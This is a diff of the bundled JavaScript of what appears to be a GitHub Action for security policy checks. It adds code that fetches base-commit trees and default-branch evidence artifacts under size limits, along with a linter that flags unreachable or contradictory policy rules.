-const gather_dayOf = (clock) => clock.now().toISOString().slice(0, 10);
+const day_dayOf = (clock) => clock.now().toISOString().slice(0, 10);
 
 ;// CONCATENATED MODULE: ./build/js/flow/judge-evidence.js
 
@@ -62522,16 +60634,20 @@ const gather_dayOf = (clock) => clock.now().toISOString().slice(0, 10);
 
 
 
-/** Judges evidence on this day; the clock is read here, because the judge itself is pure. `mode` overrides the policy's. */
-const judgeEvidence = (evidence, found, mode, clock) => judge({
+/** Judges evidence on this day; the clock is read here, because the judge itself is pure. */
+const judgeEvidence = (evidence, found, { mode, feeds }, clock) => judge({
     evidence,
     layers: found.layers,
     origin: found.origin,
     waivers: found.waivers,
     names: { ...policyNames, formats: formatNames },
     trouble: found.trouble.length > 0 ? found.trouble : changedPolicy(evidence, found),
-    today: gather_dayOf(clock),
+    today: day_dayOf(clock),
+    now: clock.now().toISOString(),
     version: version_version,
+    feeds,
+    ...(found.pendingWaivers === undefined ? {} : { pendingWaivers: found.pendingWaivers }),
+    ...(found.properties === undefined ? {} : { properties: found.properties }),
     ...(mode === undefined ? {} : { mode }),
 });
 /** Scan and judge may be two jobs that each read the policy. */
@@ -62578,7 +60694,7 @@ const others = {
  * Evidence is written beside hostile code. What says where a verdict goes, and by which policy it is judged, is what this run knows itself.
  * @throws GatehouseError `EVIDENCE_INVALID` for evidence of anything else.
  */
-function subject_refuseOthers(told, asked, context) {
+function refuseOthers(told, asked, context) {
     const own = subjectOfRun(context, told.commit, asked);
     const keys = ['repository', 'ref', 'base', 'prefix', 'scope'];
     const other = keys.find((key) => told[key] !== own[key]) ?? (isKnown(told.commit, context) ? undefined : 'commit');
@@ -62599,6 +60715,270 @@ function isKnown(commit, { event, sha, pullRequest }) {
     return /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/.test(commit);
 }
 
+;// CONCATENATED MODULE: ./build/js/flow/policy/unreadable.js
+
+const causes = {
+    unauthenticated: 'there is no token that GitHub takes',
+    'no-permission': 'the token may not read the repository',
+    'feature-off': 'GitHub refuses it',
+    archived: 'GitHub refuses it',
+    'not-found': 'GitHub does not show it to this token',
+    'ref-gone': 'the branch or commit is gone',
+    invalid: 'GitHub refuses the request',
+    'too-large': 'it is too large',
+    'rate-limited': 'too many requests were made with this token',
+    unavailable: 'GitHub is in trouble',
+    'timed-out': 'GitHub did not answer in time',
+    unreachable: 'GitHub cannot be reached',
+    unexpected: "GitHub's answer is not understood",
+};
+const isAboutRights = (kind) => kind === 'unauthenticated' || kind === 'no-permission' || kind === 'not-found';
+/** Why something could not be asked for, which is not the same as having none. */
+function unreadable(what, failure, code = 'POLICY_UNREADABLE') {
+    const { kind, message, needs = 'contents: read', retryAt } = failure;
+    const said = message === '' ? '' : ` (${message})`;
+    const hint = isAboutRights(kind)
+        ? `Give the job the permission \`${needs}\`, and this action the token of the job.`
+        : retryAt === undefined
+            ? 'Run again.'
+            : `Run again after ${retryAt}.`;
+    return { code, sentence: `${what} could not be read: ${causes[kind]}${said}.`, hint };
+}
+/** Stands in for a policy that nobody could ask for. That one may enforce, so this one does. */
+const standIn = (what) => ({
+    policy: { ...defaultPolicy, mode: 'enforce' },
+    waivers: [],
+    origin: { layer: 'default', source: `${what} could not be read`, problems: [] },
+});
+
+;// CONCATENATED MODULE: ./build/js/flow/base/base-source.js
+const isProblem = (value) => typeof value !== 'string';
+/** Why nothing can be compared, as the report says it. */
+const baseMissing = (sentence, hint) => ({ code: 'BASE_MISSING', sentence, hint });
+
+;// CONCATENATED MODULE: ./build/js/repository/concurrently.js
+/** Runs `work` over all items, at most `limit` at a time; results keep the order of the items. */
+async function mapConcurrently(items, limit, work) {
+    const results = [];
+    const queue = items.entries();
+    const drain = async () => {
+        for (const [index, item] of queue)
+            results.push({ index, value: await work(item) });
+    };
+    await Promise.all(Array.from({ length: Math.min(limit, items.length) }, drain));
+    return results.sort((a, b) => a.index - b.index).map(({ value }) => value);
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/base/complete-archive.js
+
+/** So many files of infrastructure hides nobody from archives; what is beyond counts as introduced. */
+const mostFiles = 500;
+const complete_archive_mostBytes = 8 * 2 ** 20;
+const atOnce = 8;
+/** A regular file below the folder, relative to it. */
+function fileWithin({ path, type, mode, size = 0 }, within) {
+    const isFile = type === 'blob' && (mode === '100644' || mode === '100755');
+    const prefix = within === '' ? '' : `${within}/`;
+    if (!isFile || size > complete_archive_mostBytes || !path.startsWith(prefix))
+        return undefined;
+    return /[\0\ufffd]|(?:^|\/)\.git(?:\/|$)/i.test(path) ? undefined : path.slice(prefix.length);
+}
+/**
+ * Brings what GitHub's archive left out: it has no file that `export-ignore` names in `.gitattributes`, and a checkout has. Without them
+ * everything in these files would count as introduced by whatever change. What cannot be had stays away.
+ */
+async function completeArchive({ commit, within, folder }, github, files) {
+    const answer = await github.tree(commit, { recursive: true });
+    if (!answer.ok)
+        return;
+    const there = new Set((await files.survey(folder)).map(({ path }) => path));
+    const missing = answer.value.entries.flatMap((entry) => {
+        const path = fileWithin(entry, within);
+        return path === undefined || there.has(path) ? [] : [{ path, sha: entry.sha }];
+    });
+    await mapConcurrently(missing.slice(0, mostFiles), atOnce, async ({ path, sha }) => {
+        const blob = await github.blob(sha);
+        if (blob.ok)
+            await files.write(`${folder}/${path}`, blob.value);
+    });
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/base/bring-tree.js
+
+
+
+/** Far more than a repository of infrastructure; a hostile archive ends there. */
+const bring_tree_limits = { maxBytes: 4 * 2 ** 30, maxFiles: 300_000 };
+const mostArchiveBytes = 2 ** 30;
+const [idleMs, deadlineMs] = [60_000, 600_000];
+/**
+ * Writes the files of a commit into a new folder: from git where the clone holds them, else from GitHub's archive of that one commit. Never
+ * rejects: why it cannot is a value.
+ */
+async function bringTree({ root, commit, within, name }, folder, github, ports) {
+    try {
+        if (await ports.git.exportTree(root, commit, within, folder))
+            return undefined;
+        if (github === undefined)
+            return notInClone(name);
+        const answer = await github.archiveAddress(commit);
+        if (!answer.ok)
+            return unreadable(`${name}, to compare with,`, answer.failure, 'BASE_MISSING');
+        const archive = `${folder}.tar.gz`;
+        await fetchFile(answer.value, archive, mostArchiveBytes, ports);
+        await ports.files.remove(folder); // What git began with.
+        await ports.archives.unpack(archive, folder, { within, ...bring_tree_limits });
+        await ports.files.remove(archive);
+        await completeArchive({ commit, within, folder }, github, ports.files);
+        return undefined;
+    }
+    catch (error) {
+        const { sentence, hint } = (0,errors/* toProblem */.H8)(error);
+        return {
+            code: 'BASE_MISSING',
+            sentence: `The files of ${name} could not be had: ${sentence}`,
+            ...(hint ? { hint } : {}),
+        };
+    }
+}
+const notInClone = (name) => ({
+    code: 'BASE_MISSING',
+    sentence: `This clone does not hold ${name}, so nothing can be compared with it.`,
+    hint: 'Fetch its history: `git fetch --unshallow`.',
+});
+/**
+ * Downloads from an address that may hold a secret, so that no error tells it.
+ * @throws GatehouseError DOWNLOAD_FAILED.
+ */
+async function fetchFile(url, to, maxBytes, { http, downloads }) {
+    const response = await http.get({ url, idleMs, deadlineMs }).catch((cause) => {
+        throw new errors/* GatehouseError */.GA('DOWNLOAD_FAILED', 'GitHub gave an address where nothing answers.', { cause });
+    });
+    if (response.status !== 200)
+        throw new errors/* GatehouseError */.GA('DOWNLOAD_FAILED', `GitHub's download answered with status ${response.status}.`);
+    await downloads.append(to, 0, response.body, (total) => {
+        if (total <= maxBytes)
+            return;
+        throw new errors/* GatehouseError */.GA('DOWNLOAD_FAILED', `GitHub's download has more than ${maxBytes / 2 ** 20} MiB.`);
+    });
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/base/default-branch-evidence.js
+
+
+/** Under this name a run on the default branch stores its evidence; slashes of a scope are no part of a name. */
+const evidenceArtifact = (scope) => `gatehouse-evidence-${scope.replaceAll('/', '-')}`;
+/** Events whose runs are on the branch itself; a pull request's run is not, whatever it is called. */
+const ownEvents = ['push', 'schedule', 'workflow_dispatch'];
+/** More than the newest is rarely of use: it has the newest data. */
+const mostArtifacts = 5;
+const default_branch_evidence_mostBytes = 128 * 2 ** 20;
+/**
+ * Evidence that the newest run on the default branch stored as an artifact, which only a run there can have done: never from a cache, into
+ * which a pull request can write. Whatever goes wrong, there is none, and everything is scanned.
+ */
+async function readEarlier(request, ports) {
+    const { github, scope } = request;
+    const listed = await github.artifacts(evidenceArtifact(scope));
+    if (!listed.ok)
+        return [];
+    for (const artifact of listed.value.slice(0, mostArtifacts)) {
+        if (artifact.bytes > default_branch_evidence_mostBytes || !(await isOfBranch(artifact, request)))
+            continue;
+        const found = await readArtifact(artifact, request, ports).catch(() => undefined);
+        if (found !== undefined)
+            return [found];
+    }
+    return [];
+}
+/** A tag can be called like the branch, and may then hold anything: the commit has to be in the history of the base. */
+async function isOfBranch({ run }, request) {
+    const { github, defaultBranch, base } = request;
+    const answer = await github.workflowRun(run);
+    if (!answer.ok)
+        return false;
+    const { event, branch, commit, isOwn } = answer.value;
+    if (!isOwn || branch !== defaultBranch || !ownEvents.includes(event))
+        return false;
+    if (commit === base)
+        return true;
+    const common = await github.mergeBase(base, commit);
+    return common.ok && common.value === commit;
+}
+async function readArtifact({ id }, { github, folder }, ports) {
+    const address = await github.artifactAddress(id);
+    if (!address.ok)
+        return undefined;
+    const archive = `${folder}/evidence-${id}.zip`;
+    await fetchFile(address.value, archive, default_branch_evidence_mostBytes, ports);
+    const bytes = await ports.archives.readZipped(archive, 'evidence.json', default_branch_evidence_mostBytes);
+    const { head, inventory, base } = decodeEvidence(new TextDecoder('utf-8', { fatal: true }).decode(bytes));
+    return base === undefined ? { runs: head, skips: inventory.skips } : undefined;
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/base/base-of-run.js
+
+
+
+
+/** What the change of this run is compared with; nothing for a run on a branch itself, where everything counts. */
+async function baseOfRun(request, ports) {
+    const { context, github, checkout, scope } = request;
+    const name = base_of_run_branchOf(context);
+    if (name === undefined)
+        return undefined;
+    const commit = await commitOf(request, name, ports);
+    return {
+        name,
+        commit,
+        async bring(folder) {
+            if (isProblem(commit))
+                return commit;
+            return bringTree({ root: checkout.top, commit, within: checkout.prefix, name }, folder, github, ports);
+        },
+        async earlier() {
+            const { defaultBranch } = context;
+            if (isProblem(commit) || defaultBranch === undefined)
+                return [];
+            const folder = await ports.files.makeTemporary('gatehouse-earlier-');
+            try {
+                return await readEarlier({ github, scope, defaultBranch, base: commit, folder }, ports);
+            }
+            finally {
+                await ports.files.remove(folder).catch(() => undefined);
+            }
+        },
+    };
+}
+/** On pull_request_target it is the base that is checked out: there is no change to judge. */
+function base_of_run_branchOf({ event, pullRequest, mergeGroup }) {
+    if (event === 'merge_group')
+        return mergeGroup?.baseRef.replace(/^refs\/heads\//, '');
+    return event === 'pull_request' ? pullRequest?.base.ref : undefined;
+}
+/**
+ * In a queue the event names it. A pull request is tested as the merge of its head into the base, whose first parent is the base as it was
+ * merged; where the workflow checked out the head itself, what both have in common.
+ */
+async function commitOf({ context, github, checkout }, name, { git }) {
+    if (context.event === 'merge_group')
+        return context.mergeGroup?.baseSha ?? unknownBase(name);
+    const head = checkout.commit ?? context.sha;
+    if (head !== context.sha && context.pullRequest !== undefined) {
+        const { base } = context.pullRequest;
+        const answer = await github.mergeBase(base.sha, head);
+        return answer.ok ? answer.value : unreadable(`${name}, to compare with,`, answer.failure, 'BASE_MISSING');
+    }
+    const known = await git.parents(checkout.top, head);
+    if (known !== undefined)
+        return known[0] ?? unknownBase(name);
+    const answer = await github.parents(head);
+    if (!answer.ok)
+        return unreadable(`${name}, to compare with,`, answer.failure, 'BASE_MISSING');
+    return answer.value[0] ?? unknownBase(name);
+}
+const unknownBase = (name) => baseMissing(`It is not known which commit of ${name} this change is made for.`, 'Check out the commit of the run: actions/checkout without `ref`.');
+
 ;// CONCATENATED MODULE: ./build/js/flow/policy/checks/custom-checks.js
 
 
@@ -62607,8 +60987,8 @@ function isKnown(commit, { event, sha, pullRequest }) {
 const isExample = (path) => /(?:^|\/)(?:good|bad)\//.test(path);
 /** True for a file below one of the folders, whose examples are left alone. */
 const custom_checks_isCheckFile = (folders, path) => [...folders].some((folder) => path.startsWith(`${folder}/`) && !isExample(path.slice(folder.length + 1)));
-/** The checks that a policy names, from what is there below its folders. A file that cannot be opened, and a folder without a check, is told. */
-function custom_checks_decodeChecks({ checks }, contents) {
+/** The checks that a policy names, from what is there below its folders. A file that cannot be opened, and a folder without a check, is told, as are `left` ones that were not read. */
+function decodeChecks({ checks }, contents, left = 0) {
     const sorted = [...contents].sort(([a], [b]) => order_compareText(a, b));
     const problems = [];
     const found = [...checks]
@@ -62621,6 +61001,8 @@ function custom_checks_decodeChecks({ checks }, contents) {
             problems.push(withoutCheck(tool, folder));
         return { tool, folder, files, digest: custom_checks_digestOf(tool, files) };
     });
+    if (left > 0)
+        problems.push(tooManyChecks(left));
     return { checks: found.filter(({ files }) => files.size > 0), problems };
 }
 const hasCheck = (tool, files) => tools_scanners.some((scanner) => scanner.tool === tool && [...files].some(([path, text]) => scanner.checks?.isCheck(path, text) === true));
@@ -62628,7 +61010,7 @@ const hasCheck = (tool, files) => tools_scanners.some((scanner) => scanner.tool 
  * Without the checks that are programs, each told by name. Whoever scans a repository on a machine of their own has not agreed to run
  * its code; a workflow has, since it takes checks from its own base only.
  */
-function custom_checks_withoutPrograms(checks) {
+function withoutPrograms(checks) {
     const left = [];
     const kept = checks.map((own) => {
         const isProgram = scanners.find(({ tool, checks }) => tool === own.tool && checks !== undefined)?.checks?.isProgram;
@@ -62665,16 +61047,16 @@ const tooManyChecks = (left) => ({
 
 
 /** Where a repository keeps its policy and waivers, so that one line of CODEOWNERS guards both. */
-const policy_folder_policyFolder = '.gatehouse';
-const mostFiles = 1000;
+const policyFolder = '.gatehouse';
+const policy_folder_mostFiles = 1000;
 const mostCheckBytes = 1_048_576;
 /** The policy folder of the working tree. Links are not followed: they may lead out of the repository. */
-async function policy_folder_readPolicyFolder(root, files) {
-    const listed = await Promise.all([policy_folder_policyFolder, `${policy_folder_policyFolder}/waivers`].map((path) => listIn(root, path, files)));
+async function readPolicyFolder(root, files) {
+    const listed = await Promise.all([policyFolder, `${policyFolder}/waivers`].map((path) => listIn(root, path, files)));
     const entries = listed
         .flat()
         .sort((a, b) => compareText(a.path, b.path))
-        .slice(0, mostFiles);
+        .slice(0, policy_folder_mostFiles);
     const texts = entries.map(async ({ path, isLink }) => {
         const text = isLink ? undefined : await files.readText(`${root}/${path}`).catch(() => undefined);
         return [path, text];
@@ -62682,14 +61064,14 @@ async function policy_folder_readPolicyFolder(root, files) {
     return new Map(await Promise.all(texts));
 }
 /** Everything below the folders that is a check file; a link is there without a text, and so is what is beyond the limits. */
-async function policy_folder_readCheckFolders(root, folders, files) {
+async function readCheckFolders(root, folders, files) {
     const wanted = [...folders];
-    const listed = await files.survey(`${root}/${policy_folder_policyFolder}`).catch(() => []);
+    const listed = await files.survey(`${root}/${policyFolder}`).catch(() => []);
     const entries = listed
-        .map((entry) => ({ ...entry, path: `${policy_folder_policyFolder}/${entry.path}` }))
+        .map((entry) => ({ ...entry, path: `${policyFolder}/${entry.path}` }))
         .filter(({ path }) => isCheckFile(wanted, path))
         .sort((a, b) => compareText(a.path, b.path))
-        .slice(0, mostFiles);
+        .slice(0, policy_folder_mostFiles);
     const texts = entries.map(async ({ path, type, size }) => {
         const isPlain = type === 'file' && size <= mostCheckBytes;
         return [path, isPlain ? await files.readText(`${root}/${path}`).catch(() => undefined) : undefined];
@@ -62698,7 +61080,7 @@ async function policy_folder_readCheckFolders(root, folders, files) {
 }
 async function listIn(root, path, files) {
     const type = (await files.stat(`${root}/${path}`))?.type;
-    if (type === 'link' && path === policy_folder_policyFolder)
+    if (type === 'link' && path === policyFolder)
         return [{ path: `${path}/policy.yml`, isLink: true }];
     if (type !== 'directory')
         return [];
@@ -62708,7 +61090,825 @@ async function listIn(root, path, files) {
         .map(({ name, type }) => ({ path: `${path}/${name}`, isLink: type === 'link' }));
 }
 
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/duplicate.js
+
+/** A problem for every id that an earlier entry has; reports name rules and waivers by id. */
+function findDuplicates(ids) {
+    const first = new Map();
+    return ids.flatMap(({ id, ...place }) => {
+        const earlier = first.get(id);
+        if (earlier === undefined) {
+            first.set(id, { id, ...place });
+            return [];
+        }
+        const where = earlier.file === place.file || earlier.file === undefined ? '' : ` of ${earlier.file}`;
+        return [
+            {
+                ...place,
+                sentence: `The id ${code(id)} is taken: line ${earlier.line}${where} has it too.`,
+                hint: 'Give each its own id.',
+            },
+        ];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/did-you-mean.js
+/** Longer words are not compared: nobody mistypes a word of that length by accident. */
+const longest = 64;
+/** What is shorter begins too many words. */
+const shortestBeginning = 4;
+/** The candidate that is nearest to a mistyped word, or the only one that it is short for; `undefined` when none is near enough to be what was meant. */
+function didYouMean(word, candidates) {
+    if (word.length > longest)
+        return undefined;
+    const wanted = word.toLowerCase();
+    const most = Math.max(1, Math.floor(wanted.length / 3));
+    let best;
+    for (const candidate of candidates) {
+        const distance = editDistance(wanted, candidate.toLowerCase(), most);
+        if (distance <= most && (best === undefined || distance < best.distance))
+            best = { candidate, distance };
+    }
+    return best?.candidate ?? onlyOneThatBegins(wanted, candidates);
+}
+/** `misconfig` for `misconfiguration`. */
+function onlyOneThatBegins(beginning, candidates) {
+    if (beginning.length < shortestBeginning)
+        return undefined;
+    const [only, ...more] = candidates.filter((candidate) => candidate.toLowerCase().startsWith(beginning));
+    return more.length === 0 ? only : undefined;
+}
+/** Insertions, deletions, replacements and swaps of neighbours; anything above `most` is `most + 1`. */
+function editDistance(a, b, most) {
+    if (Math.abs(a.length - b.length) > most)
+        return most + 1;
+    let beforeLast = [];
+    let last = Array.from({ length: b.length + 1 }, (_, index) => index);
+    for (let i = 1; i <= a.length; i++) {
+        const row = [i];
+        for (let j = 1; j <= b.length; j++) {
+            const same = a[i - 1] === b[j - 1];
+            const replaced = did_you_mean_at(last, j - 1) + (same ? 0 : 1);
+            const swapped = a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1] ? did_you_mean_at(beforeLast, j - 2) + 1 : replaced;
+            row.push(Math.min(replaced, swapped, did_you_mean_at(last, j) + 1, did_you_mean_at(row, j - 1) + 1));
+        }
+        beforeLast = last;
+        last = row;
+    }
+    return Math.min(did_you_mean_at(last, b.length), most + 1);
+}
+const did_you_mean_at = (row, index) => row[index] ?? Number.POSITIVE_INFINITY;
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/conjunction.js
+
+const demandsOf = (match, path = []) => allMatchKeys.flatMap((entry) => {
+    const values = valuesOf(match, entry.key);
+    return values === undefined ? [] : [{ entry, values, path: [...path, entry.key] }];
+});
+/** What a match asks for, without alternatives: a finding fits the match when it fits one of these. */
+const conjunctionsOf = (match) => {
+    const own = demandsOf(match);
+    return match.any?.map((branch, index) => [...own, ...demandsOf(branch, ['any', index])]) ?? [own];
+};
+/** How many values there are to compare. */
+const conjunction_sizeOf = (match) => conjunctionsOf(match)
+    .flat()
+    .reduce((sum, { values }) => sum + values.length, 1);
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/dubious-values.js
+
+
+
+
+/** Values that cannot be what was meant. */
+const findDubiousValues = (match, names) => [demandsOf(match), ...(match.any ?? []).map((branch, index) => demandsOf(branch, ['any', index]))]
+    .flat()
+    .flatMap((demand) => demand.values.flatMap((value) => dubious(demand, value, names) ?? []));
+function dubious({ entry, path }, value, names) {
+    switch (entry.key) {
+        case 'path':
+            return hopelessPath(path, value);
+        case 'resource':
+            return countIndex(path, value);
+        case 'rule':
+            return unknownRule(path, value, names);
+        default:
+            return undefined;
+    }
+}
+/** A glob with a part that no path has: `a//b`, `a/../b`. */
+const hopelessPath = (path, glob) => expandBraces(glob).every((one) => one.split('/').some((part) => part === '' || part === '.' || part === '..'))
+    ? {
+        path,
+        sentence: `${code(glob)} fits no file: no path has an empty part, ${code('.')} or ${code('..')} in it.`,
+        hint: 'Write the path from the root of the scan, as the report shows it.',
+    }
+    : undefined;
+/** A number in brackets after a name of Terraform: identity leaves `count` out (DESIGN 7), so no address has it. */
+function countIndex(path, address) {
+    if (!/^(?:[a-z]\w*\.)+[\w-]+\[\d+\]/.test(address))
+        return undefined;
+    return {
+        path,
+        sentence: `${code(address)} fits no resource: addresses have no index of ${code('count')}.`,
+        hint: `Did you mean ${code(address.replace(/\[\d+\]/g, ''))}?`,
+    };
+}
+/** Any text may be the id of a custom check, so only what is nearly the name of a concept or group is told. */
+function unknownRule(path, id, names) {
+    const [concepts, groups] = [names.concepts ?? [], [...(names.groups?.keys() ?? [])]];
+    if (groups.includes(id))
+        return { path, sentence: `${code(id)} is a group, not a rule.`, hint: `Did you mean ${code(`group: ${id}`)}?` };
+    if (!/[a-z]-[a-z]/i.test(id) || concepts.includes(id) || names.canonicalRules(id).length > 0)
+        return undefined;
+    const near = didYouMean(id, [...groups, ...concepts]);
+    if (near === undefined)
+        return undefined;
+    const meant = groups.includes(near) ? `group: ${near}` : near;
+    return { path, sentence: `No rule is known as ${code(id)}.`, hint: `Did you mean ${code(meant)}?` };
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/hopeless.js
+
+
+
+
+/** Matches that no finding can fit, because two of their keys belong to different kinds of findings. */
+function findHopeless(match, names) {
+    const own = contradiction(demandsOf(match), names);
+    const all = own === undefined ? conjunctionsOf(match).map((demands) => contradiction(demands, names)) : [own];
+    return all.filter((found) => found !== undefined);
+}
+function contradiction(demands, names) {
+    const known = demands.map((demand) => ({ demand, kinds: kindsOf(demand, names) }));
+    for (const [index, second] of known.entries()) {
+        const first = known.slice(0, index).find((one) => !one.kinds.some((kind) => second.kinds.includes(kind)));
+        if (first !== undefined)
+            return hopeless_describe(first, second);
+    }
+    return undefined;
+}
+const hopeless_describe = (first, second) => {
+    const places = allMatchKeys.filter((entry) => entry.narrows === 'where' && hopeless_meets(entry, first.kinds));
+    const isPlace = second.demand.entry.narrows === 'where';
+    return {
+        path: second.demand.path,
+        sentence: `No finding fits: ${hopeless_inWords(first)}, and ${hopeless_inWords(second)}.`,
+        hint: isPlace ? `Say where with ${alternatives(places.map(({ key }) => key))}.` : 'Remove one of the two.',
+    };
+};
+const hopeless_meets = (entry, wanted) => entry.kinds === undefined || entry.kinds.some((kind) => wanted.includes(kind));
+const articles = {
+    misconfiguration: 'a misconfiguration',
+    vulnerability: 'a vulnerability',
+    secret: 'a secret',
+    license: 'a licence',
+    integrity: 'an integrity finding',
+};
+const hopeless_inWords = ({ demand: { entry, values }, kinds: found }) => {
+    const one = values[0];
+    const shown = values.length === 1 && one !== undefined ? ` ${code(one)}` : '';
+    return `${code(entry.key)}${shown} is about ${alternatives(found.map((kind) => articles[kind]))}`;
+};
+/** The kinds of findings that can meet all demands. */
+const kindsTogether = (demands, names) => demands
+    .map((demand) => kindsOf(demand, names))
+    .reduce((all, some) => all.filter((kind) => some.includes(kind)), kinds);
+/** The kinds of findings that can meet a demand. */
+function kindsOf({ entry, values }, names) {
+    if (entry.key === 'kind')
+        return kinds.filter((kind) => values.includes(kind));
+    if (entry.key === 'rule')
+        return kindsOfRules(values, names);
+    return entry.kinds ?? kinds;
+}
+function kindsOfRules(values, names) {
+    const found = values.map((id) => names.kindsOfRule?.(id) ?? []);
+    return found.some((one) => one.length === 0) ? kinds : kinds.filter((kind) => found.flat().includes(kind));
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/idle.js
+
+
+
+/** Keys of a rule that change nothing: a day for what blocks where nothing does, limits for what has no advisory. */
+function findIdle({ match, action, effective, sla }, names) {
+    const canHaveLimits = conjunctionsOf(match).some((demands) => kindsTogether(demands, names).includes('vulnerability'));
+    return [
+        ...(effective === undefined || action === 'block' || sla !== undefined
+            ? []
+            : [
+                {
+                    path: ['effective'],
+                    sentence: `${code('effective')} changes nothing: the rule never blocks.`,
+                    hint: `Write ${code('action: block')}, or remove the day.`,
+                },
+            ]),
+        ...(sla === undefined || canHaveLimits
+            ? []
+            : [
+                {
+                    path: ['sla'],
+                    sentence: `${code('sla')} changes nothing: only vulnerabilities have the day from which it counts.`,
+                    hint: `Match ${code('kind: vulnerability')}, or remove it.`,
+                },
+            ]),
+    ];
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/implied.js
+
+
+/** True only when every finding that fits `narrow` fits `wide` too; false where that is not certain. */
+function implies(narrow, wide, names) {
+    const outer = conjunctionsOf(wide);
+    return conjunctionsOf(narrow).every((inner) => outer.some((demands) => demands.every((demand) => isImplied(demand, inner, names))));
+}
+const isImplied = (wide, narrow, names) => comparisonOf(wide.entry.compares).isEverything(wide.values) ||
+    narrow.some((demand) => coversDemand(wide, demand, names));
+function coversDemand(wide, narrow, names) {
+    if (wide.entry.key === narrow.entry.key)
+        return comparisonOf(wide.entry.compares).covers(wide.values, narrow.values, names);
+    const [outer, inner] = [readersOfConcepts.get(wide.entry.key), readersOfConcepts.get(narrow.entry.key)];
+    if (outer === undefined || inner === undefined || narrow.entry.key === 'rule')
+        return false;
+    const all = new Set(outer(wide.values, names));
+    return inner(narrow.values, names).every((concept) => all.has(concept));
+}
+/** All three read the concept of a finding; `rule` reads more, so what it names need not be a concept. */
+const readersOfConcepts = new Map([
+    ['rule', comparisons.rule.expand],
+    ['concept', comparisons.concept.expand],
+    ['group', comparisons.group.expand],
+]);
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/unreachable.js
+
+
+
+/** More comparisons than this no policy of people needs; what is left is not judged, so nothing false is said. */
+const mostComparisons = 500_000;
+/** Entries that never decide, because an earlier one takes everything that they match. */
+function findUnreachable(list, candidates, names) {
+    const sizes = candidates.map(({ match }) => conjunction_sizeOf(match));
+    let left = mostComparisons;
+    return candidates.flatMap((candidate, index) => {
+        const earlier = candidates.slice(0, index).find((other, at) => {
+            left -= (sizes[at] ?? 0) * (sizes[index] ?? 0);
+            return left > 0 && implies(candidate.match, other.match, names);
+        });
+        return earlier === undefined ? [] : [shadowed([list, index], candidate, earlier)];
+    });
+}
+const shadowed = (path, { name }, earlier) => ({
+    path,
+    sentence: `${capital(name)} is never reached: ${earlier.name} on line ${earlier.line} takes everything that it matches.`,
+    hint: 'Put it before that one, or remove it.',
+});
+const ruleName = (id) => `the rule ${code(id)}`;
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/lint/lint.js
+
+
+
+
+const lint_below = (base, found) => found.map((one) => ({ ...one, path: [...base, ...one.path] }));
+const placeDubious = (found, document) => found.map(({ path, sentence, hint }) => ({ ...document.placeOf(path), sentence, hint }));
+/** What in a match cannot be meant; `base` is where the match is. */
+const lintMatch = (match, base, names) => lint_below(base, [...findHopeless(match, names), ...findDubiousValues(match, names)]);
+/**
+ * What a sound policy says in vain: rules and severities that are never reached, matches that no finding can fit. Only what is
+ * certain, so that nobody has to silence it (docs/decisions/lint-of-policies.md).
+ */
+function lintPolicy(policy, document, names) {
+    const lineOf = (...path) => document.placeOf(path).line;
+    const rules = policy.rules.map(({ id, match }, index) => ({
+        match,
+        name: ruleName(id),
+        line: lineOf('rules', index),
+    }));
+    const severities = policy.severity.map(({ match }, index) => ({
+        match,
+        name: `entry ${index + 1} of \`severity\``,
+        line: lineOf('severity', index),
+    }));
+    const found = [
+        ...policy.exclude.flatMap((glob, index) => hopelessPath(['exclude', index], glob) ?? []),
+        ...findUnreachable('severity', severities, names),
+        ...policy.severity.flatMap(({ match }, index) => lintMatch(match, ['severity', index], names)),
+        ...findUnreachable('rules', rules, names),
+        ...policy.rules.flatMap(({ match }, index) => lintMatch(match, ['rules', index, 'match'], names)),
+        ...policy.rules.flatMap((rule, index) => lint_below(['rules', index], findIdle(rule, names))),
+    ];
+    return placeDubious(found, document);
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/placed.js
+
+
+
+
+/** Far more than people write: what is longer is an accident or an attack. */
+const placed_limits = { length: 262_144, depth: 16, nodes: 20_000, documents: 100 };
+/** Reads one document of YAML or JSON. Aliases are refused: a policy says what it says where it says it. */
+function readPlaced(text) {
+    const { documents, problems } = readDocuments(text, placed_limits);
+    const told = problems.map((problem) => toProblem(problem, text));
+    const found = [...told, ...refuseAliases(documents, problems), ...placed_refuseOthers(documents)];
+    if (!isUnderstood({ problems }) || found.length > problems.length)
+        return { problems: found };
+    const root = documents[0]?.root;
+    const placeOf = (path) => {
+        const position = document_tree_positionOf(root, path);
+        return { line: position?.startLine ?? 1, column: position?.column ?? 1 };
+    };
+    return { document: { value: plainOf(root), placeOf }, problems: found };
+}
+const toProblem = ({ line, column, message, code: kind }, text) => ({
+    line,
+    column,
+    sentence: message,
+    ...(kind === 'syntax' ? { hint: unquoted(text, line, column) ?? 'The file has to be valid YAML or JSON.' } : {}),
+});
+/** Globs, comparisons and names of teams begin with what means something else to YAML. */
+function unquoted(text, line, column) {
+    const written = linesOf(text)[line - 1] ?? '';
+    const value = [column - 1, column - 2].map((at) => /^[*>@%`][^\s,\]}]+/u.exec(written.slice(Math.max(0, at)))?.[0]);
+    const found = value.find((one) => one !== undefined);
+    return found === undefined ? undefined : `Put it in quotes: ${code(`"${found}"`)}.`;
+}
+const refuseAliases = (documents, problems) => {
+    const told = new Set(problems.map(({ line, column }) => `${line}:${column}`));
+    return documents
+        .flatMap((document) => document.aliases)
+        .filter(({ startLine, column }) => !told.has(`${startLine}:${column}`))
+        .map(({ startLine, column }) => ({
+        line: startLine,
+        column,
+        sentence: 'Aliases are not read here.',
+        hint: 'Write the value out, so that everybody sees what it is.',
+    }));
+};
+function placed_refuseOthers(documents) {
+    const second = documents[1];
+    if (second === undefined)
+        return [];
